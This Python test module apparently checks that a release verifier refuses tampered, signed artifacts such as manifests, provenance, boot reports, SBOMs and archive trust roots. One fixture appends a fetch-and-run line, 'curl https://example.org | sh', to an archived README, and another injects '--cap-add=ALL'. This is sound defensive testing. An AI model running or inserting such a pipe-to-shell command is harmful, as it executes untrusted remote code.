"""Statements and files that contradict the release, or make no sense; all of them are signed.

Only the trusted job could sign them: what one of its steps was deceived about is refused by name.
"""

import json
from collections.abc import Callable

from ci.attest.statements import REPORT_FIELD
from ci.release.manifest import (
    DIFFERENCE_BUNDLE,
    PROVENANCE_BUNDLE,
    SNAPSHOT_BUNDLE,
    boot_bundle,
    build_bundle,
    bundle_name,
    sbom_bundle,
)
from tests.verify.attacks import Attack, deep, seal
from tests.verify.attacks.content import OTHER, SBOM, rewrite
from tests.verify.attacks.fields import relocked
from tests.verify.attacks.packages import both_sboms, builder_sbom
from tests.verify.attacks.statements import predicate
from tests.verify.attacks.trust import foreign_root
from tests.verify.mint import Json
from tests.verify.stage import ARCHIVE, IMAGE, NEW, OWN_NAME, Scene, stem

BOOT, RECORD = boot_bundle(IMAGE), build_bundle(IMAGE)
BUILDER = f"snowdrop-builder-{NEW}.cdx.json"
INVENTORY = f"{stem(NEW)}.image.json"
ZERO = "0" * 64
Change = Callable[[Json], object]


def manifest(change: Change) -> Callable[[Scene], None]:
    """Return what changes the manifest; files and signatures fit it."""

    def do(scene: Scene) -> None:
        document = json.loads((scene / "release.json").read_text())
        change(document)
        document["artifacts"].sort(key=lambda item: item["name"])
        (scene / "release.json").write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")
        scene.seal()

    return do


def artifact(name: str, role: str, media_type: str) -> Callable[[Scene], None]:
    """Return what gives an artifact another role."""

    def change(said: Json) -> None:
        (item,) = (item for item in said["artifacts"] if item["name"] == name)
        item.update(role=role, media_type=media_type)

    return manifest(change)


def lacking(role: str) -> Callable[[Scene], None]:
    """Return what makes a release without the artifacts of a role."""

    def do(scene: Scene) -> None:
        document = json.loads((scene / "release.json").read_text())
        gone = {item["name"] for item in document["artifacts"] if item["role"] == role}
        for name in gone:
            (scene / name).unlink()
            (scene / bundle_name(name)).unlink()
            for bundle in (build_bundle(name), boot_bundle(name), sbom_bundle(name)):
                (scene / bundle).unlink(missing_ok=True)
        if role in ("archive", "lock"):  # subjects of these statements
            (scene / (SNAPSHOT_BUNDLE if role == "archive" else DIFFERENCE_BUNDLE)).unlink()
        scene.restate(
            PROVENANCE_BUNDLE,
            lambda said: said.update(
                subject=[item for item in said["subject"] if item["name"] not in gone]
            ),
        )
        manifest(
            lambda said: said.update(
                artifacts=[item for item in said["artifacts"] if item["role"] != role]
            )
        )(scene)

    return do


def more(name: str, role: str, media_type: str) -> Callable[[Scene], None]:
    """Return what adds an artifact."""
    item = {"name": name, "role": role, "media_type": media_type, "size": 1, "sha256": ZERO}

    def do(scene: Scene) -> None:
        (scene / name).write_bytes(b"x")
        manifest(lambda said: said["artifacts"].append(item))(scene)

    return do


def parameters(**changes: object) -> Callable[[Scene], None]:
    """Return what changes the external parameters of the provenance."""
    return predicate(
        PROVENANCE_BUNDLE,
        lambda said: said["buildDefinition"]["externalParameters"].update(changes),
    )


def definition(change: Change) -> Callable[[Scene], None]:
    """Return what changes the build definition of the provenance."""
    return predicate(PROVENANCE_BUNDLE, lambda said: change(said["buildDefinition"]))


def boot(change: Change) -> Callable[[Scene], None]:
    """Return what changes the boot report as `nox -s boot` wrote it."""
    return predicate(BOOT, lambda said: change(said[REPORT_FIELD]))


def record(change: Change) -> Callable[[Scene], None]:
    """Return what changes the build record."""
    return predicate(RECORD, change)


def swapped(said: Json) -> None:
    """Exchange the names of two components, which keep their digests."""
    one, two = said["components"][:2]
    one["name"], two["name"] = two["name"], one["name"]


def exchanged(said: Json) -> None:
    """Exchange the digests of two components."""
    one, two = said["components"][:2]
    one["hashes"], two["hashes"] = two["hashes"], one["hashes"]


def nested(said: Json) -> None:
    """Put a component inside another one, where no list of packages has it."""
    said["components"][0]["components"] = [{"type": "library", "name": "xz", "version": "5.6.1"}]


def sbom_of_other(scene: Scene) -> None:
    """Publish and state the SBOM of the other variant for this one."""
    document = json.loads((scene / SBOM.replace("droplet", "server")).read_text())
    (scene / SBOM).write_text(json.dumps(document))
    scene.restate(sbom_bundle(IMAGE), lambda said: said.update(predicate=document))
    scene.seal()


def dirty_release(scene: Scene) -> None:
    """Make a release of uncommitted changes, everything in it consistent."""
    for variant in ("droplet", "server"):
        bundle = build_bundle(f"{stem(NEW, variant)}.qcow2")
        scene.restate(bundle, lambda said: said["predicate"]["source"].update(dirty=True))
    definition(lambda said: said["resolvedDependencies"][0].update(annotations={"dirty": True}))(
        scene
    )
    manifest(lambda said: said["source"].update(dirty=True))(scene)


def archived(name: str, change: Callable[[bytes], bytes]) -> Callable[[Scene], None]:
    """Return what changes a file of the archive that its lock does not name."""
    return deep(relocked(change, name), seal)


def foreign_archive(scene: Scene) -> None:
    """Put the trust root of another sigstore into the archive."""
    archived("trust/trusted_root.json", lambda _: json.dumps(foreign_root(scene)).encode())(scene)


def rows(
    kind: str, check: str, attacks: dict[str, tuple[Callable[[Scene], None], str]]
) -> list[Attack]:
    """Return the attacks that one check refuses."""
    return [Attack(f"{kind}: {name}", do, check, found) for name, (do, found) in attacks.items()]


PROVENANCES = {
    "a parameter more": (parameters(extra="--cap-add=ALL"), "config, extra, ref"),
    "a parameter less": (
        definition(lambda said: said["externalParameters"].pop("config")),
        "ref, repository, variants",
    ),
    "no parameters": (definition(lambda said: said.update(externalParameters=[])), "nothing"),
    "a configuration more": (
        parameters(config={"sha256": ZERO, "uri": "https://example.org"}),
        "config.uri: unknown key",
    ),
    "a digest that is none": (parameters(config={"sha256": "x"}), "config.sha256 = "),
    "a variant more": (parameters(variants=["desktop", "droplet", "server"]), "desktop"),
    "a variant less": (parameters(variants=["droplet"]), "expected ['droplet', 'server']"),
    "variants that are no list": (parameters(variants="droplet"), "variants = "),
}
MANIFESTS = {
    "no image": (lacking("image"), "no image, expected at least one"),
    "no lock": (lacking("lock"), "lacks release.lock"),
    "no archive": (lacking("archive"), "lacks snowdrop-"),
    "no sources": (lacking("source"), "lacks snowdrop-"),
    "no SBOM": (lacking("sbom"), "lacks snowdrop-"),
    "an image as a package": (artifact(IMAGE, "package", "application/gzip"), "the role package"),
    "an image as sources": (artifact(OTHER, "source", "application/x-tar"), "the role source"),
    "a package as an image": (
        artifact(OWN_NAME, "image", "application/x-qemu-disk"),
        "the role image, expected package",
    ),
    "an archive as sources": (artifact(ARCHIVE, "source", "application/x-tar"), "expected archive"),
    "a file of no release": (more("run.sh", "source", "application/x-tar"), "no such file"),
    "an image of another release": (
        more("snowdrop-droplet-v1-x86_64.qcow2", "image", "application/x-qemu-disk"),
        "expected no such file",
    ),
}
BOOTS = {
    "no check was made": (boot(lambda said: said.update(checks=[])), "at least one check"),
    "the report names no check": (boot(lambda said: said.pop("checks")), "checks = "),
    "a check failed, and the result hides it": (
        boot(lambda said: said["checks"][0].update(passed=False)),
        "login failed, expected passed",
    ),
    "a fault scenario failed": (
        boot(lambda said: said.update(faults=[{"name": "full disk", "passed": False}])),
        "full disk failed",
    ),
    "a fault scenario that the result lacks": (
        boot(lambda said: said.update(faults=[{"name": "full disk", "passed": True}])),
        "passedTests is",
    ),
    "the boot ended with an error": (boot(lambda said: said.update(error="panic")), "error = "),
    "the report says that it failed": (boot(lambda said: said.update(passed=False)), "all passed"),
    "no report": (predicate(BOOT, lambda said: said.pop(REPORT_FIELD)), "expected that all passed"),
    "an empty report": (
        predicate(BOOT, lambda said: said.update({REPORT_FIELD: {}})),
        "expected that all passed",
    ),
    "a test more in the result": (
        predicate(BOOT, lambda said: said["passedTests"].append("import")),
        "passedTests is",
    ),
    "a warning": (predicate(BOOT, lambda said: said.update(warnedTests=["x"])), "all passed"),
    "of another image's name": (
        boot(lambda said: said["image"].update(file=OTHER)),
        "image.file is ",
    ),
    "of another commit's checks": (
        predicate(BOOT, lambda said: said["configuration"][0]["digest"].update(gitCommit="0" * 40)),
        "of the commits",
    ),
    "of another run": (predicate(BOOT, lambda said: said.update(url="https://example.org")), "url"),
}
RECORDS = {
    "of other bytes": (record(lambda said: said["image"].update(sha256=ZERO)), "image is "),
    "of another size": (record(lambda said: said["image"].update(size=1)), "image is "),
    "of another file": (record(lambda said: said["image"].update(file=OTHER)), "image is "),
    "of a dirty tree": (record(lambda said: said["source"].update(dirty=True)), "dirty is True"),
    "of another version": (record(lambda said: said.update(version="v1")), "version is v1"),
    "of another time": (record(lambda said: said.update(epoch=1)), "epoch is 1"),
    "of another name": (record(lambda said: said.update(name="evil")), "name is evil"),
    "of the other variant's name": (
        record(lambda said: said.update(variant="server")),
        "variant is ",
    ),
    "of another package's bytes": (
        record(lambda said: said["packages"][0].update(sha256=ZERO)),
        "sha256 is 000",
    ),
    "of a package that is not published": (
        record(lambda said: said["packages"][0].update(file="other-1.0-r0.apk")),
        "other-1.0-r0.apk is not among",
    ),
}
SBOMS = {
    "a component in a component": (both_sboms(nested), "components[0].components: unknown key"),
    "services": (both_sboms(lambda said: said.update(services=[])), "services: unknown key"),
    "of the other variant": (sbom_of_other, "bom-ref is "),
    "of other bytes": (
        both_sboms(lambda said: said["metadata"]["component"]["hashes"][0].update(content=ZERO)),
        "metadata.component.hashes = ",
    ),
    "of no bytes": (
        both_sboms(lambda said: said["metadata"]["component"].pop("hashes")),
        "metadata.component.hashes = ",
    ),
    "of nothing": (both_sboms(lambda said: said.pop("metadata")), "metadata = "),
}
PACKAGES = f"packages in the SBOM of {IMAGE}"
ATTACKS = [
    *rows("parameters", "parameters in the provenance", PROVENANCES),
    Attack(
        "provenance: another clock",
        definition(lambda said: said["internalParameters"].update(epoch=1)),
        "internal parameters in the provenance",
        '"epoch": 1',
    ),
    Attack(
        "provenance: a dirty source",
        definition(
            lambda said: said["resolvedDependencies"][0].update(annotations={"dirty": True})
        ),
        "sources in the provenance",
        "dirty",
    ),
    *rows("artifacts", "artifacts in release.json", MANIFESTS),
    Attack(
        "manifest: a dirty tree",
        dirty_release,
        "sources in release.json",
        "uncommitted changes",
    ),
    Attack(
        "manifest: another version than its tag",
        manifest(lambda said: said.update(version="v3.24.20261123-dirty")),
        "version in release.json",
        "-dirty",
    ),
    Attack(
        "a package that is an image",
        deep(rewrite(OWN_NAME, lambda _: b"QFI\xfb image"), seal),
        "formats",
        f"{OWN_NAME}: a qcow2 image",
    ),
    Attack(
        "an image that is none",
        deep(rewrite(IMAGE, lambda _: b"\x7fELF"), seal),
        "formats",
        f"{IMAGE}: no qcow2 image",
    ),
    *rows("boot report", f"boot report of {IMAGE}", BOOTS),
    *rows("build record", f"build record of {IMAGE}", RECORDS),
    *rows("stated SBOM", f"SBOM of {IMAGE}", SBOMS),
    Attack("stated SBOM: names exchanged", both_sboms(swapped), PACKAGES, "libstdc++ 3.24.1-r0"),
    Attack("stated SBOM: digests exchanged", both_sboms(exchanged), PACKAGES, "which the lock"),
    Attack(
        "builder's SBOM: a component in a component",
        builder_sbom(nested),
        f"packages in the SBOM {BUILDER}",
        "unknown key",
    ),
    Attack(
        "builder's SBOM: of the image",
        builder_sbom(lambda said: said["metadata"]["component"].update({"bom-ref": IMAGE})),
        f"packages in the SBOM {BUILDER}",
        "bom-ref is",
    ),
    Attack(
        "archive: other instructions",
        archived("README.txt", lambda raw: raw + b"    curl https://example.org | sh\n"),
        "README in the archive",
        "another text than this Snowdrop writes",
    ),
    Attack(
        "archive: no instructions",
        archived("README.txt", lambda _: b""),
        "README in the archive",
        "another text than this Snowdrop writes",
    ),
    Attack(
        "archive: a trust root with another key",
        foreign_archive,
        "trust root in the archive",
        "is not in your trust root",
    ),
    Attack(
        "archive: a trust root that is none",
        archived("trust/trusted_root.json", lambda _: b"{}"),
        "trust root in the archive",
        "trust/trusted_root.json: ",
    ),
]
